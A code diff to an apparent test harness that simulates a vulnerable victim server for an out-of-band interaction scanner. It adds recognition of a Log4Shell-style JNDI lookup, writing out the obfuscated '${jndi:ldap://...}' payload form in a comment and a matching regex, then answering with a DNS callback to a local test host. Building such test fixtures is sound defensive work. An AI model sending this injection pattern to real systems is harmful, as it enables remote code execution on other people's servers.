@@ -87,7 +87,12 @@ export async function startVictim(oast: OastService): Promise<VictimServer> {
       const text = `${req.url}\n${JSON.stringify(req.headers)}\n${body}`;
       const host = OAST_HOST.exec(text)?.[0];
       const path = new URL(req.url ?? '/', 'http://x').pathname;
-      if (host) {
+      // a log4j-style lookup: `${jndi:ldap://${:-123}${:-456}.${hostName}.<oast>/x}` resolved as a vulnerable logger would
+      const jndi = /\$\{jndi:ldap:\/\/(.+?\.oast\.test)\//i.exec(decodeURIComponent(body))?.[1];
+      if (host && jndi && path.startsWith('/log4j')) {
+        seen.push(host);
+        await askDns(oast.dnsPort, jndi.replace(/\$\{:-([^}]*)\}/g, '$1').replace(/\$\{hostName\}/g, 'victim-host'));
+      } else if (host) {
         seen.push(host);
         if (path.startsWith('/dns') || path.startsWith('/http')) await askDns(oast.dnsPort, host);
         if (path.startsWith('/http')) await fetchOast(oast.httpPort, host, '/callback').catch(() => undefined);
